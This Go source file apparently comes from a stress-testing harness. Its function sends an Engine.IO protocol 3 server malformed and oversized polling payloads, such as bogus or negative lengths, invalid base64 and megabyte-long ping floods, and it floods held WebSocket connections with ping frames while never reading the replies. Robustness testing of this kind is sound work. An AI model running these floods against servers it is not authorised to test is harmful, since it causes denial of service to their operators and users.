//go:build linux

package attack

import (
	"fmt"
	"io"
	"strconv"
	"strings"
)

// eio3 attacks as a client of protocol 3: payloads with lengths that are wrong
// or endless, base64 that is none, and pings that ask for more answers than the
// client reads.
func eio3(f *Field) {
	payloads := oldPayloads()
	f.onEach(40, 0, func(c *raw) error {
		c.path = oldPath
		p := payloads[f.next(len(payloads))]
		sid, err := c.polling(p.query)
		if err != nil {
			return err
		}
		_, err = fmt.Fprintf(c, "POST %spolling&sid=%s%s HTTP/1.1\r\nHost: %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n%s",
			c.path, sid, p.query, f.target.Addr, p.kind, len(p.body), p.body)
		if err != nil {
			return err
		}
		f.count("payloads", 1)
		_, err = c.answer()
		return err
	})
	var frames []byte
	for len(frames) < chunk {
		frames = appendFrame(frames, final|opText, []byte("2"+string(filler[:100])))
	}
	f.onEachHeld(10, 4<<10, func(c *raw) error {
		if _, err := c.Write(appendWebSocket(nil, f.target.Addr, oldPath+"websocket", "")); err != nil {
			return err
		}
		if _, err := io.ReadFull(c.r, make([]byte, 12)); err != nil { // HTTP/1.1 101
			return err
		}
		for {
			n, err := c.Write(frames)
			f.count("bytes", n)
			if err != nil {
				return err
			}
		}
	})
}

// oldPayload is the body of a POST of protocol 3, and its type; query is added
// to the request's.
type oldPayload struct{ query, kind, body string }

func oldPayloads() []oldPayload {
	pings := strings.Repeat("1:2", megabyte/3)
	return []oldPayload{
		{"", "text/plain", "99999999999999999999:4x"},
		{"", "text/plain", strings.Repeat("9", megabyte)},
		{"", "text/plain", "1000000:4x"},
		{"", "text/plain", "-1:4"},
		{"", "text/plain", strings.Repeat(":", megabyte)},
		{"", "text/plain", strings.Repeat("0:", megabyte/2)},
		{"", "text/plain", strings.Repeat("1:4", megabyte/3)},
		{"", "text/plain", "3:4ü" + strings.Repeat("ü", megabyte/2-10)}, // lengths count UTF-16 units
		{"", "text/plain", pings},
		{"&b64=1", "text/plain", "10:b4AAECAwQF"},
		{"&b64=1", "text/plain", strconv.Itoa(megabyte-20) + ":b4" + strings.Repeat("A", megabyte-22)},
		{"&b64=1", "text/plain", "8:b4@@@@@@"},
		{"", "application/octet-stream", "\x00" + strings.Repeat("\x09", megabyte)},
		{"", "application/octet-stream", "\x01\xff"},
		{"", "application/octet-stream", "\x01\x09\x09\x09\x09\x09\x09\xff\x04x"},
		{"", "application/octet-stream", strings.Repeat("\x00\x01\xff2", megabyte/4)},
		{"&j=0", "application/x-www-form-urlencoded", "d=" + strings.Repeat("%", megabyte-10)},
		{"&j=0", "application/x-www-form-urlencoded", "d=" + strings.Repeat("1%3A2", megabyte/5-10)},
	}
}
